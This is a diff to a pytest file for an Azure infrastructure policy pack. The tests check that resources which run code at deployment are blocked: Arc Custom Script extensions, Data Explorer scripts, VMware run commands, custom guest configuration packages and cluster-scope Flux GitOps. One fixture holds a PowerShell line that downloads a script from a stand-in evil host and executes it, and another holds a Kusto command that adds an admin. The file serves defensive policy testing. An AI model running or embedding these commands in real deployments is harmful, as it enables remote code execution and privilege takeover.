@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import pytest
 
+from tests.policy.ruletools import UNKNOWN
 from tests.policy.test_pack_grpc import urn
 
 RULE = "AGID-AZ-042"
@@ -51,6 +52,40 @@ def test_code_run_at_deployment_blocks(pack, type_, props, message):
     assert level == "mandatory" and message in found, found
 
 
+def test_an_arc_machine_extension_is_read_where_its_type_keeps_publisher_and_type(pack):
+    """hybridcompute.MachineExtension nests publisher / type under `properties` (they were read at the top level, so
+    a Custom Script extension on an Arc machine passed); the other Arc-style machine extensions keep them on top."""
+    type_ = "azure-native:hybridcompute:MachineExtension"
+    props = {"resourceGroupName": "rg", "machineName": "onprem-dc01", "location": "westeurope",
+             "properties": {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
+                            "settings": {"commandToExecute": "powershell -c iwr https://evil.example.net/x.ps1|iex"}}}
+    [(level, found)] = findings(pack, type_, props)
+    assert level == "mandatory" and "extension x (Microsoft.Compute/CustomScriptExtension) runs a script" in found
+    monitor = {**props, "properties": {"publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorWindowsAgent"}}
+    assert findings(pack, type_, monitor) == []
+    for other, target in (("azure-native:azurestackhci:MachineExtension", {"name": "hci-node1"}),
+                          ("azure-native:scvmm:MachineExtension", {"virtualMachineName": "vmm-vm1"}),
+                          ("azure-native:connectedvmwarevsphere:MachineExtension", {"virtualMachineName": "vsphere-vm1"})):
+        [(level, _)] = findings(pack, other, {"resourceGroupName": "rg", **target, "publisher": "Microsoft.Compute",
+                                              "type": "CustomScriptExtension"})
+        assert level == "mandatory"
+
+
+def test_data_explorer_scripts_and_vmware_run_commands_block(pack):
+    """A Kusto database script runs control commands (`.add database x admins ('aadapp=...')`); an Azure VMware
+    Solution script execution runs vCenter administration cmdlets: neither is judged."""
+    [(level, found)] = findings(pack, "azure-native:kusto:Script",
+                                {"resourceGroupName": "rg", "clusterName": "adx1", "databaseName": "db",
+                                 "scriptContent": ".add database db admins ('aadapp=4444;99999999-0000-0000-0000-000000000009')"})
+    assert level == "mandatory" and "Data Explorer script x runs control commands (which can add database and cluster " \
+                                    "admins) on cluster adx1 at deployment, as the deploying principal" in found
+    [(level, found)] = findings(pack, "azure-native:avs:ScriptExecution",
+                                {"resourceGroupName": "rg", "privateCloudName": "avs1", "timeout": "PT30M",
+                                 "scriptCmdletId": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.AVS/privateClouds/avs1/"
+                                                   "scriptPackages/Microsoft.AVS.Management@5.0/scriptCmdlets/New-LDAPSIdentitySource"})
+    assert level == "mandatory" and "script execution x runs a Run command cmdlet" in found and "private cloud avs1" in found
+
+
 @pytest.mark.parametrize("publisher,kind", [
     ("Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent"),
     ("Microsoft.Azure.ActiveDirectory", "AADSSHLoginForLinux"),
@@ -59,3 +94,53 @@ def test_code_run_at_deployment_blocks(pack, type_, props, message):
 def test_agent_extensions_pass_and_unknown_publishers_wait(pack, publisher, kind):
     props = {"resourceGroupName": "rg", "vmName": "vm", "publisher": publisher, "type": kind, "typeHandlerVersion": "1.0"}
     assert findings(pack, "azure-native:compute:VirtualMachineExtension", props) == []
+
+
+CONTENT = "https://evil.example.net/pkg.zip"
+
+
+def _guest(uri):
+    return {"resourceGroupName": "rg1", "vmName": "vm1", "location": "westeurope",
+            "properties": {"guestConfiguration": {"name": "x", "version": "1.0", "assignmentType": "ApplyAndAutoCorrect",
+                                                  **({"contentUri": uri, "contentHash": "00"} if uri else {})}}}
+
+
+def test_a_custom_guest_configuration_package_blocks_and_a_built_in_one_passes(pack):
+    """red11a r16: a Machine Configuration package from any URL runs as LocalSystem / root on the VM."""
+    type_ = "azure-native:guestconfiguration:GuestConfigurationAssignment"
+    [(level, found)] = findings(pack, type_, _guest(CONTENT))
+    assert level == "mandatory" and "] x runs a custom guest configuration package (run as LocalSystem / root) on VM " \
+                                    "vm1 (its properties.guestConfiguration.contentUri decides)" in found
+    assert findings(pack, type_, _guest(None)) == []  # built-in package: Microsoft's, named without contentUri
+    for other, target in (("GuestConfigurationHCRPAssignment", {"machineName": "m1"}),
+                          ("GuestConfigurationAssignmentsVMSS", {"vmssName": "ss"})):
+        props = {**_guest(CONTENT), **target}
+        props.pop("vmName")
+        [(level, _)] = findings(pack, f"azure-native:guestconfiguration:{other}", props)
+        assert level == "mandatory"
+
+
+def _flux(scope):
+    return {"resourceGroupName": "rg1", "clusterName": "aks1", "clusterResourceName": "managedClusters",
+            "clusterRp": "Microsoft.ContainerService", "namespace": "flux-system", "sourceKind": "GitRepository",
+            "gitRepository": {"url": "https://github.com/evil-org/manifests", "repositoryRef": {"branch": "main"}},
+            "kustomizations": {"all": {"path": "./", "prune": True}}, **({"scope": scope} if scope else {})}
+
+
+def test_cluster_scope_gitops_blocks_and_namespace_scope_is_left_to_the_target_rule(pack):
+    """red11a r12: Flux at cluster scope applies every manifest of the repository as cluster-admin; omitted scope is
+    `cluster` (Azure's default)."""
+    type_ = "azure-native:kubernetesconfiguration:FluxConfiguration"
+    for scope in ("cluster", "Cluster", None):
+        [(level, found)] = findings(pack, type_, _flux(scope))
+        assert level == "mandatory" and "runs every manifest of a GitOps source (applied by the Flux controllers) on " \
+                                         "cluster aks1 (its scope decides)" in found
+    assert findings(pack, type_, _flux("namespace")) == []
+    [(level, found)] = findings(pack, type_, _flux(UNKNOWN))
+    assert "cannot check until known" in found
+    legacy = {"resourceGroupName": "rg1", "clusterName": "aks1", "clusterResourceName": "managedClusters",
+              "clusterRp": "Microsoft.ContainerService", "repositoryUrl": "https://github.com/evil-org/manifests"}
+    [(level, _)] = findings(pack, "azure-native:kubernetesconfiguration:SourceControlConfiguration", legacy)
+    assert level == "mandatory"
+    assert findings(pack, "azure-native:kubernetesconfiguration:SourceControlConfiguration",
+                    {**legacy, "operatorScope": "namespace"}) == []
